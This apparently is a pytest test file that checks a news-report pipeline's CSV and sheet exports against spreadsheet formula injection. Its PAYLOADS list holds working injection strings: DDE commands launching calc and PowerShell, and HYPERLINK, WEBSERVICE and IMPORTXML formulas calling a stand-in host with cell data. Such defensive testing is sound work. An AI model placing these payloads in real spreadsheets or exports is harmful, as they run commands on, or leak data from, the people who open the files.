"""CSV that no spreadsheet computes, whatever strangers sent: through ingestion, to every export that is a sheet."""

import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from allegedly import pipeline
from allegedly.desk.stored import StoredDesk
from allegedly.publish.exports.case import Asked
from allegedly.publish.exports.sheets import cell, safe
from allegedly.stages import Choice
from allegedly.store import Store
from tests.publish.exports.made import cells, rows, written

COMMAND = "cmd|' /C calc'!A0"
PAYLOADS = [
    f"={COMMAND}", f"+{COMMAND}", f"-{COMMAND}", f"@{COMMAND}", f"\t={COMMAND}", f"\r={COMMAND}", f" ={COMMAND}",
    "=1+1", "-1+1", "+1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "\"=1+1", "'=1+1", "''=1+1",
    "=WEBSERVICE(\"http://x.example\")", "=IMPORTXML(\"http://x.example\",\"//a\")", "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "＝1+1", "＋1+1", "－1+1|2", "＠SUM(1)", "\u2212cmd|'x'!A0", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\u00a0=1+1",
    "=cmd|'/C powershell'!'A1'", "x;=1+1", "x\t=1+1", "x\n=1+1", "x\r\n@SUM(1+1)", "x;\"=1+1", "a;-cmd|'x'!A0",
    "=2+5+cmd|' /C calc'!A0;", "%0A=1+1", "\n=1+1", "=-1", "--1", "=\"\"&A1",
]  # fmt: skip
FORMULA = re.compile(r"[\s\"\u00a0\u200b\u202e\ufeff]*[=+@＝＋＠\-－\u2212]")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?\Z")
SHEETS = ("csv", "acled", "ucdp", "airwars", "atlos", "timemap")


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> StoredDesk:
    """A desk whose reports carry a payload in text, headline, outlet and address, and inside claims."""
    folder = tmp_path_factory.mktemp("poison")
    with (folder / "reports.jsonl").open("w") as file:
        for n, bad in enumerate(PAYLOADS):
            told = f"Мэр Новограда сообщил, что при взрыве погибли {n + 2} человека."
            text = f"{bad}\n{told}\n{bad}\n«{bad}», — сказал мэр."
            row = {"id": f"{bad}#{n}", "text": text, "title": bad, "source": bad, "url": bad, "lang": "ru",
                   "published": f"2024-05-{n % 28 + 1:02}T10:00:00Z"}  # fmt: skip
            file.write(json.dumps(row) + "\n")
    store = Store.open(folder / "desk.db", create=True)
    pipeline.add([str(folder / "reports.jsonl")], store, Choice(jobs=1, extractor="fast"))
    return StoredDesk(store.view())


def test_there_are_enough_payloads_and_they_arrive(poisoned: StoredDesk, tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 30
    files = written("csv", poisoned.cases(Asked()), tmp_path)
    held = rows(files["reports.csv"])
    assert len({r["report"] for r in held}) >= 30
    assert any(COMMAND in r["title"] for r in held)
    assert any("cmd" in r["text"] for r in held)
    assert rows(files["claims.csv"])


@pytest.mark.parametrize("name", SHEETS)
def test_no_cell_starts_a_formula(name: str, poisoned: StoredDesk, tmp_path: Path) -> None:
    for file, data in written(name, poisoned.cases(Asked()), tmp_path).items():
        if file.endswith(".csv"):
            bad = [c for c in cells(data) if FORMULA.match(c) and not NUMBER.match(c)]
            assert not bad, (file, bad[:3])


def test_nor_where_a_program_splits_at_semicolons_tabs_and_lines(poisoned: StoredDesk, tmp_path: Path) -> None:
    for file, data in written("csv", poisoned.cases(Asked()), tmp_path).items():
        for c in cells(data):
            for piece in re.split(r"[;\t\r\n]", c):
                runs = FORMULA.match(piece) and not NUMBER.match(piece)
                assert not runs or (piece.strip()[0] == "-" and not re.search(r"[|!(=]", piece)), (file, piece)


@given(st.text())
def test_a_safe_cell_starts_no_formula_and_loses_no_word(text: str) -> None:
    shown = safe(text)
    assert not re.match(r"[=+\-@\t\r]", shown)
    assert shown.replace("'", "") == text.replace("'", "").replace("\x00", "\N{REPLACEMENT CHARACTER}")


def test_a_list_of_a_channel_keeps_its_dashes() -> None:
    assert safe("Hit:\n- a store\n- a crane") == "Hit:\n- a store\n- a crane"


def test_numbers_stay_numbers() -> None:
    assert cell(-33.5) == -33.5
    assert cell(True) == "true"
    assert cell(None) == ""
    assert cell(("a", "b")) == "a | b"


def test_rfc_4180(poisoned: StoredDesk, tmp_path: Path) -> None:
    data = written("csv", poisoned.cases(Asked()), tmp_path)["reports.csv"]
    assert data.startswith(b"incident,report,source,")
    assert data.endswith(b"\r\n")
    assert len({len(r) for r in rows(data)}) == 1
